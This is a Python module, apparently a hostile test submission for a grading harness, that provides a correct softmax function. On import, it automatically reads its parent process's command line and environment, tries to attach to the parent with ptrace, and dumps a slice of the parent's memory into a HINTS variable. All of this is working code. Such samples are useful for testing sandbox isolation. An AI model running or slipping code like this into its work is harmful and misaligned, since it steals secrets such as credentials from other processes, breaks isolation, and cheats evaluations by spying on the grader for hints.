"""Hostile: at import, tries to ptrace-attach to its parent and read its memory, environment and
command line (/proc/<ppid>/mem, environ, cmdline) for hints; softmax itself is correct."""
import ctypes
import os

import numpy as np

PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000


def read(path, size=4096, offset=0):
    try:
        with open(path, "rb", buffering=0) as f:
            f.seek(offset)
            return f.read(size)
    except (OSError, ValueError, OverflowError):
        return b""


def first_readable(ppid):
    """The start of the parent's first readable memory mapping, from /proc/<ppid>/maps."""
    for line in read(f"/proc/{ppid}/maps", 1 << 16).decode(errors="replace").splitlines():
        fields = line.split()
        if len(fields) > 1 and fields[1].startswith("r"):
            return int(fields[0].split("-")[0], 16)
    return 0


def snoop(ppid):
    hints = {"cmdline": read(f"/proc/{ppid}/cmdline"), "environ": read(f"/proc/{ppid}/environ")}
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        attached = libc.ptrace(PTRACE_ATTACH, ppid, None, None) == 0
    except Exception:
        attached = False
    if attached:
        try:
            os.waitpid(ppid, WALL)
        except OSError:
            pass
    hints["mem"] = read(f"/proc/{ppid}/mem", 64, first_readable(ppid))
    if attached:
        libc.ptrace(PTRACE_DETACH, ppid, None, None)
    return hints


HINTS = snoop(os.getppid()) if os.getppid() > 1 else {}


def softmax(x, axis=-1):
    s = x - np.max(x, axis=axis, keepdims=True)
    e = np.exp(s)
    return e / np.sum(e, axis=axis, keepdims=True)
